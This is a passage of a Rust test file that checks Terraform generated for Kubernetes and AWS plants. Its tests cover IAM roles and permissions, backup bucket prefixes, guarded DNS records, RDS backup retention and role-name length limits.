        "external-secrets:external-secrets",
        "cert-manager:cert-manager",
        "kube-system:ebs-csi-controller-sa",
    ] {
        assert!(module.contains(&format!("= \"{sa}\"")), "{sa}");
    }
    for needed in [
        "secret:${var.secret_prefix}/*",
        "secret:rds!*",
        "\"secretsmanager:GetSecretValue\"",
        "\"route53:ChangeResourceRecordSets\"",
        "\"route53:GetChange\"",
        "\"route53:ListResourceRecordSets\"",
        "aws:ResourceTag/elbv2.k8s.aws/cluster",
    ] {
        assert!(module.contains(needed), "{needed}");
    }
    let outputs = &files["terraform/modules/cluster/outputs.tf"];
    for o in [
        "load_balancer_controller_role_arn",
        "external_secrets_role_arn",
        "cert_manager_role_arn",
    ] {
        assert!(outputs.contains(&format!("output \"{o}\" {{")), "{o}");
    }
}

#[test]
fn filestore_backups_may_use_only_their_prefix_of_the_repo1_bucket() {
    let mut seen = BTreeSet::new();
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        for p in ir.plants.iter().filter(|p| p.tenancy != "shared") {
            let main = &files[&format!("{}/main.tf", plant_dir(p))];
            let call = block(main, "module \"backup_identity\" {");
            let at = call
                .iter()
                .position(|l| l.trim() == "filestore = {")
                .unwrap_or_else(|| panic!("{name} {}: no filestore", plant_dir(p)));
            let fs = &call[at..];
            let repo1 = &p.backup.repos[0];
            assert_eq!(
                attr(fs, "bucket"),
                Some(format!("\"{}\"", repo1.bucket).as_str())
            );
            let prefix = filestore_prefix(p);
            assert_eq!(attr(fs, "prefix"), Some(format!("\"{prefix}\"").as_str()));
            assert_eq!(
                attr(fs, "service_account"),
                Some(format!("\"{}:filestore-backup\"", p.names.namespace).as_str())
            );
            // The bucket exists: its root is rendered.
            assert!(
                files.contains_key(&format!("terraform/backup/{}/main.tf", repo1.cloud_region)),
                "{name}: {}",
                repo1.bucket
            );
            seen.insert(p.tenancy.clone());
        }
        if let Some(module) = files.get("terraform/modules/pgbackrest-identity/main.tf") {
            for needed in [
                "values   = [\"${statement.value.prefix}*\"]",
                "\"arn:${local.partition}:s3:::${statement.value.bucket}/${statement.value.prefix}*\"",
                "\"s3:ListBucketVersions\"",
                "var.filestore.service_account",
            ] {
                assert!(module.contains(needed), "{name}: {needed}");
            }
        }
    }
    for t in [
        "dedicated-namespace",
        "dedicated-cluster",
        "dedicated-environment",
        "platform",
    ] {
        assert!(seen.contains(t), "{t}: {seen:?}");
    }
}

#[test]
fn dns_records_are_never_destroyed_by_a_lookup_that_finds_no_single_load_balancer() {
    let (ir, files) = terraform("manufacturing-group");
    let module = &files["terraform/modules/dns-record/main.tf"];
    let lb = block(module, "data \"aws_lb\" \"ingress\" {");
    assert_eq!(attr(&lb, "count"), Some("var.ingress_ready ? 1 : 0"));
    assert_eq!(
        attr(&lb, "condition"),
        Some("length(data.aws_lbs.ingress.arns) == 1")
    );
    let records = block(module, "resource \"aws_route53_record\" \"this\" {");
    assert_eq!(
        attr(&records, "for_each"),
        Some("var.ingress_ready ? toset(var.names) : toset([])")
    );
    let variables = &files["terraform/modules/dns-record/variables.tf"];
    let ready = block(variables, "variable \"ingress_ready\" {");
    assert_eq!(attr(&ready, "default"), Some("true"));
    for p in ir.plants.iter().filter(|p| !p.platform) {
        let main = &files[&format!("{}/main.tf", plant_dir(p))];
        assert_eq!(
            attr(&block(main, "module \"dns\" {"), "ingress_ready"),
            Some("var.ingress_ready")
        );
        assert!(main.contains("variable \"ingress_ready\" {"));
    }
}

#[test]
fn rds_keeps_automated_backups_and_admits_its_read_only_integrations() {
    let (ir, files) = terraform("critical-managed");
    let module = &files["terraform/modules/managed-database/main.tf"];
    let instance = block(module, "resource \"aws_db_instance\" \"this\" {");
    assert_eq!(attr(&instance, "delete_automated_backups"), Some("false"));
    assert!(!module.contains("DeleteDBInstanceAutomatedBackup"));
    let mut peers = 0;
    for p in ir.plants.iter().filter(|p| p.database.managed) {
        let main = &files[&format!("{}/main.tf", plant_dir(p))];
        let allowed = attr(&block(main, "module \"database\" {"), "allowed_cidr_blocks")
            .expect("allowed_cidr_blocks")
            .to_string();
        for i in p
            .integrations
            .iter()
            .filter(|i| i.protocol == "postgres-readonly")
        {
            for peer in &i.peers {
                assert!(allowed.contains(&format!("\"{peer}\"")), "{allowed}");
                peers += 1;
            }
        }
    }
    assert!(peers > 0);
}

#[test]
fn oidc_issuers_are_used_without_scheme_or_trailing_slash() {
    let (_, files) = terraform("critical-managed");
    for module in ["pgbackrest-identity", "managed-database", "cluster"] {
        let text = &files[&format!("terraform/modules/{module}/main.tf")];
        assert!(text.contains("trimsuffix(trimprefix("), "{module}");
        assert_eq!(
            text.matches("trimprefix(").count(),
            text.matches("trimsuffix(trimprefix(").count()
                + text.matches("trimprefix(statement.value.path").count(),
            "{module}"
        );
    }
}

#[test]
fn iam_role_names_of_the_modules_fit_with_the_longest_plant_and_environment() {
    // `<plant>-<env>` is at most 40 + 1 + 12 characters.
    let longest = 53;
    let (_, files) = terraform("critical-managed");
    for module in ["cluster", "managed-database"] {
        let text = &files[&format!("terraform/modules/{module}/main.tf")];
        let mut names = 0;
        for line in text.lines().map(str::trim) {
            for var in ["\"${var.name}-", "\"${var.identifier}-"] {
                if let Some(rest) = line
                    .strip_prefix("name               = ")
                    .and_then(|r| r.strip_prefix(var))
                {
                    let suffix = rest.trim_end_matches('"');
                    assert!(longest + 1 + suffix.len() <= 64, "{module}: {line}");
                    names += 1;
                }
            }
        }
        assert!(names > 0, "{module}: no role name found");
    }
}

#[test]
fn restore_test_names_too_long_for_aws_are_a_finding() {
    let base = root().join("examples/critical-managed");
    let long = "a-plant-name-of-exactly-forty-characters";
    assert_eq!(long.len(), 40);
    let inputs: Vec<Input> = read_inputs(&base, "plants")
        .into_iter()
        .map(|mut i| {
            if !i.is_fleet {
                let text = String::from_utf8(i.bytes.clone()).expect("UTF-8");
                i.bytes = text
                    .replacen("name: tarragona", &format!("name: {long}"), 1)
                    .into_bytes();
            }
            i
        })
        .collect();
    let c = compile(&inputs);
    let messages: Vec<String> = c
        .diagnostics
        .iter()
        .filter(|d| d.code.to_string() == "BP4009")
        .map(|d| d.message.clone())
        .collect();
    assert!(
        messages.iter().any(|m| m.contains("-rds-restore-test`")),
        "{messages:?}"
    );
}
